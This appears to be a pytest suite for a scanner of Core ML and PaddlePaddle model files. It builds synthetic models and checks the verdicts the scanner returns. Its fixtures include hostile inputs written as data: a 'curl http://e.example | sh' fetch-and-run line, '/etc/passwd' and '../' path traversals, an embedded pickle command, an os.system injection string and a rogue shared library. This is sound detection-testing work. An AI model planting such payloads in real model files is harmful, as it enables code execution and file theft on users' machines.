"""Core ML and PaddlePaddle: classes by name, files by path, operators that act."""

from __future__ import annotations

import json
import struct

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from assay.core.finding import Verdict
from scanning.container_making import COMMAND, ELF, judge
from scanning.protobuf_making import blob, message, number, packed

CLEAN, SUSPICIOUS, MALICIOUS = Verdict.CLEAN, Verdict.SUSPICIOUS, Verdict.MALICIOUS
PICKLE = b"\x80\x02" + COMMAND


def program() -> bytes:
    """A native program whose header holds together."""
    header = bytearray(ELF)
    header[52:54] = (64).to_bytes(2, "little")
    return bytes(header)


def coreml(kind: int, body: bytes, note: str = "a model") -> bytes:
    description = message(blob(1, blob(1, "x")), blob(100, blob(1, note)))
    return message(number(1, 7), blob(2, description), blob(kind, body))


def network(*layers: bytes) -> bytes:
    return message(*(blob(1, message(blob(1, "l"), blob(2, "x"), one)) for one in layers))


def custom(name: str, weights: bytes = b"") -> bytes:
    return message(blob(10, name), *([blob(20, blob(30, weights))] if weights else []))


def blob_file(path: str) -> bytes:
    """An ML program with one constant in a file."""
    value = message(blob(5, message(blob(1, path), number(2, 64))))
    operation = message(blob(1, "const"), blob(5, message(blob(1, "val"), blob(2, value))))
    block = message(blob(2, "y"), blob(3, operation))
    function = message(blob(2, "CoreML7"), blob(3, message(blob(1, "CoreML7"), blob(2, block))))
    return message(number(1, 1), blob(2, message(blob(1, "main"), blob(2, function))))


def linked(path: str) -> bytes:
    return blob(1, message(blob(1, blob(1, path)), blob(2, blob(1, ""))))


@pytest.mark.parametrize(
    ("data", "verdict", "rules"),
    [
        (coreml(500, network(blob(140, number(1, 4)))), CLEAN, set()),
        (coreml(300, blob(1, number(1, 1))), CLEAN, set()),
        (coreml(502, blob_file("@model_path/weights/weight.bin")), CLEAN, set()),
        (coreml(500, network(blob(500, custom("Evil")))), SUSPICIOUS, {"coreml.custom-class"}),
        (coreml(500, network(blob(500, custom("groupnorm")))), CLEAN, {"coreml.custom-class"}),
        (coreml(555, custom("Evil")), SUSPICIOUS, {"coreml.custom-class"}),
        (
            coreml(202, blob(1, coreml(500, network(blob(500, custom("Evil")))))),
            SUSPICIOUS,
            {"coreml.custom-class"},
        ),
        (
            coreml(500, network(blob(605, blob(1, network(blob(500, custom("Evil"))))))),
            SUSPICIOUS,
            {"coreml.custom-class"},
        ),
        (coreml(502, blob_file("@model_path/../../etc/x")), MALICIOUS, {"coreml.path"}),
        (coreml(502, blob_file("/etc/passwd")), MALICIOUS, {"coreml.path"}),
        (coreml(556, linked("Other.mlmodelc")), SUSPICIOUS, {"coreml.linked-model"}),
        (coreml(556, linked("../Other.mlmodelc")), MALICIOUS, {"coreml.path"}),
        (
            coreml(3000, message(blob(1, "com.x"), blob(2, b"?"))),
            SUSPICIOUS,
            {"coreml.compiled-model"},
        ),
        (coreml(300, b"", "curl http://e.example | sh"), SUSPICIOUS, {"coreml.acting-text"}),
        (coreml(500, network(blob(140, program()))), MALICIOUS, {"coreml.executable"}),
    ],
)
def test_core_ml(data: bytes, verdict: Verdict, rules: set[str]) -> None:
    judged = judge(data, "Model.mlmodel")
    assert (judged.family, judged.verdict, judged.rules) == ("coreml", verdict, rules), judged


def test_a_pickle_as_weights_of_a_custom_layer() -> None:
    judged = judge(coreml(500, network(blob(500, custom("groupnorm", PICKLE)))), "m.mlmodel")
    assert judged.verdict is MALICIOUS


def test_weights_of_a_package() -> None:
    head = struct.pack("<II", 1, 2) + bytes(56) + struct.pack("<II", 0xDEADBEEF, 1)
    judged = judge(head + bytes(64), "weight.bin")
    assert (judged.family, judged.verdict) == ("coreml-weights", CLEAN)
    assert judge(head + program(), "weight.bin").verdict is MALICIOUS
    macho = struct.pack("<8I", 0xFEEDFACF, 0x01000007, 3, 2, 10, 800, 0, 0)
    assert judge(head + bytes(40) + macho, "weight.bin").rules == {"coreml.executable"}


@pytest.mark.parametrize(
    ("path", "verdict"),
    [("com.apple.CoreML/model.mlmodel", CLEAN), ("../../x", MALICIOUS), ("/etc/x", MALICIOUS)],
)
def test_paths_of_a_package(path: str, verdict: Verdict) -> None:
    document = {"fileFormatVersion": "1.0.0", "itemInfoEntries": {"A": {"path": path}}}
    assert judge(json.dumps(document).encode(), "Manifest.json").verdict is verdict


def text_attribute(name: str, *texts: str) -> bytes:
    kind = 2 if len(texts) == 1 else 5
    where = 5 if len(texts) == 1 else 8
    return blob(4, message(blob(1, name), number(2, kind), *(blob(where, one) for one in texts)))


def operator(kind: str, *attributes: bytes) -> bytes:
    variable = message(blob(1, "X"), blob(2, "x"))
    return message(blob(1, variable), blob(2, variable), blob(3, kind), *attributes)


def paddle(*operators: bytes) -> bytes:
    """A program of one block with a variable and operators."""
    variable = message(blob(1, "x"), blob(2, number(1, 7)))
    block = message(
        number(1, 0), number(2, 2**64 - 1), blob(3, variable), *(blob(4, one) for one in operators)
    )
    return message(blob(1, block), blob(4, number(1, 0)))


@pytest.mark.parametrize(
    ("operators", "verdict", "rules"),
    [
        ([operator("conv2d"), operator("batch_norm"), operator("relu_grad")], CLEAN, set()),
        ([operator("py_func")], MALICIOUS, {"paddle.python-function"}),
        ([operator("save", text_attribute("file_path", "/tmp/x"))], MALICIOUS, {"paddle.file-access"}),
        ([operator("save_combine")], MALICIOUS, {"paddle.file-access"}),
        ([operator("read_file", text_attribute("filename", "/etc/passwd"))], MALICIOUS, {"paddle.file-access"}),
        ([operator("load", text_attribute("file_path", "w"))], CLEAN, {"paddle.file-access"}),
        ([operator("load", text_attribute("file_path", "../w"))], MALICIOUS, {"paddle.file-access"}),
        ([operator("send", text_attribute("endpoints", "a:1", "b:1"))], MALICIOUS, {"paddle.network"}),
        ([operator("evil_op")], SUSPICIOUS, {"paddle.unknown-operator"}),
        (
            [operator("evil_op", text_attribute("library", "/tmp/libevil.so"))],
            MALICIOUS,
            {"paddle.library"},
        ),
        ([operator("my_op", text_attribute("a", "lib.so"))], SUSPICIOUS, {"paddle.unknown-operator"}),
        ([operator("relu", text_attribute("a", ELF.decode("latin-1")))], MALICIOUS, {"paddle.executable"}),
        ([operator("relu", text_attribute("a", ELF.hex()))], MALICIOUS, {"paddle.executable"}),
        ([operator("relu", text_attribute("a", "ab" * 64))], CLEAN, set()),
        (
            [operator("relu", text_attribute("note", "__import__('os').system('id')"))],
            SUSPICIOUS,
            {"paddle.acting-text"},
        ),
        ([operator("relu", text_attribute("op_callstack", "exec(compile(x))", "b"))], CLEAN, set()),
    ],
)  # fmt: skip
def test_paddle_programs(operators: list[bytes], verdict: Verdict, rules: set[str]) -> None:
    judged = judge(paddle(*operators), "inference.pdmodel")
    assert (judged.family, judged.verdict, judged.rules) == ("paddle", verdict, rules), judged


@pytest.mark.parametrize(
    ("name", "verdict"),
    [
        ("1.conv2d", CLEAN),
        ("pd_op.relu", CLEAN),
        ("1.py_func", MALICIOUS),
        ("1.save_combine", MALICIOUS),
        ("3.my_op", SUSPICIOUS),
        ("custom_op.my_op", SUSPICIOUS),
        ("2.if", CLEAN),
    ],
)
def test_paddle_programs_of_version_3(name: str, verdict: Verdict) -> None:
    row = {"#": name, "A": [{"AT": {"#": "0.a_str", "D": "x"}, "N": "name"}], "I": [], "O": []}
    document = {
        "base_code": {"magic": "pir", "version": 4},
        "program": {"regions": [{"#": "region_0", "blocks": [{"ops": [row]}]}]},
    }
    assert judge(json.dumps(document).encode(), "inference.json").verdict is verdict


def parameters(*bodies: bytes) -> bytes:
    """Tensors of single precision, as many numbers as fit into each body."""
    out = b""
    for body in bodies:
        description = message(number(1, 5), packed(2, [len(body) // 4]))
        out += struct.pack("<IQIi", 0, 0, 0, len(description)) + description + body
    return out


def test_paddle_parameters() -> None:
    data = parameters(struct.pack("<2f", 1, 2), struct.pack("<f", 3))
    judged = judge(data, "inference.pdiparams")
    assert (judged.family, judged.verdict) == ("paddle-parameters", CLEAN)
    assert judge(data[:-1], "inference.pdiparams").verdict is Verdict.UNKNOWN
    assert judge(data + b"tail of something", "inference.pdiparams").verdict is Verdict.UNKNOWN
    assert judge(parameters(ELF), "x.pdiparams").rules == {"paddle.executable"}


SAMPLES = (
    coreml(500, network(blob(500, custom("Evil")))),
    paddle(operator("py_func"), operator("relu")),
    parameters(struct.pack("<2f", 1, 2)),
)


@pytest.mark.parametrize("sample", SAMPLES)
def test_a_cut_file_is_never_clean(sample: bytes) -> None:
    names = ("m.mlmodel", "m.pdmodel", "m.pdiparams")
    name = names[SAMPLES.index(sample)]
    for size in range(4, len(sample)):  # fewer are a text
        assert judge(sample[:size], name).verdict is not CLEAN, size


@settings(max_examples=200, deadline=None)
@given(st.data())
def test_any_change_of_a_byte_is_answered(data: st.DataObject) -> None:
    raw = bytearray(data.draw(st.sampled_from(SAMPLES)))
    for _ in range(data.draw(st.integers(1, 4))):
        raw[data.draw(st.integers(0, len(raw) - 1))] = data.draw(st.integers(0, 255))
    assert judge(bytes(raw), "model.bin").verdict in Verdict
